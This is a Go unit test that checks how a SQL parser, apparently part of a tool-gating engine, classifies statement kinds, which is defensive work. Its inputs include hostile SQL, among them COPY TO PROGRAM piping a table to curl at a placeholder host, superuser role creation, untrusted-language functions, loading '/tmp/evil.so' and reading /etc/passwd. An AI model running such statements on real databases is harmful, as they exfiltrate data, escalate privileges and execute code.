package facts_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/engine/facts"
)

func TestSQLKindsBeyondTheLeadingKeyword(t *testing.T) {
	t.Parallel()
	cases := map[string]string{
		"DESCRIBE users":                                      "describe",
		"desc tickets":                                        "describe",
		"EXPLAIN SELECT * FROM t":                             "select",
		"EXPLAIN ANALYZE DELETE FROM t":                       "delete",
		"DESCRIBE SELECT * FROM t":                            "select",
		"SELECT * INTO backup FROM users":                     "select_into",
		"select id into outfile '/tmp/x' from users":          "select_into",
		"SELECT (SELECT 1) AS into_col FROM t":                "select",
		"SELECT a FROM t WHERE b IN (SELECT c INTO x FROM y)": "select",
		"COPY users TO PROGRAM 'curl -d @- evil'":             "copy_program",
		"copy t from program 'sh -c id'":                      "copy_program",
		"COPY users TO STDOUT":                                "copy",
		// Statements that run code or create principals (sql_destructive by default).
		"DO $$ BEGIN EXECUTE 'DROP TABLE users'\n END $$":                              "do",
		"DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DROP TABLE users''; END'":                "do",
		"CREATE ROLE evil WITH SUPERUSER LOGIN":                                        "create_role",
		"create user x superuser":                                                      "create_role",
		"CREATE GROUP g":                                                               "create_role",
		"CREATE LOGIN l WITH PASSWORD = 'x'":                                           "create_role",
		"CREATE USER MAPPING FOR bob SERVER s":                                         "create",
		"CREATE EXTENSION IF NOT EXISTS plpython3u":                                    "create_extension",
		"CREATE OR REPLACE TRUSTED PROCEDURAL LANGUAGE plperlu":                        "create_extension",
		"CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u":       "create_untrusted_function",
		"CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE 'plperlu' AS 'x'":         "create_untrusted_function",
		`CREATE FUNCTION f() RETURNS int LANGUAGE "pltclu" AS 'x'`:                     "create_untrusted_function",
		"CREATE FUNCTION f(int) RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C STRICT":  "create_untrusted_function",
		"CREATE PROCEDURE p() LANGUAGE internal AS 'x'":                                "create_untrusted_function",
		"CREATE FUNCTION f() RETURNS text LANGUAGE plsh AS '#!/bin/sh'":                "create_untrusted_function",
		"CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'":        "create_untrusted_function",
		"CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'": "create",
		"CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1 END $$": "create",
		"CREATE TABLE t (language text, soname text)":                                  "create",
		"CREATE INDEX i ON t (a)":                                                      "create",
		"CREATE TABLE users_copy AS SELECT language, 1 FROM users":                     "create",
		"LOAD '/tmp/evil.so'":                                                          "load_library",
		"LOAD DATA INFILE '/etc/passwd' INTO TABLE t":                                  "load",
		"load xml local infile 'x' into table t":                                       "load",
		"LOAD":                                                                         "load_library",
	}
	for q, want := range cases {
		f := facts.ParseSQL(q)
		require.True(t, f.OK, q)
		require.Len(t, f.Statements, 1, q)
		assert.Equal(t, want, f.Statements[0].Kind, q)
	}
}
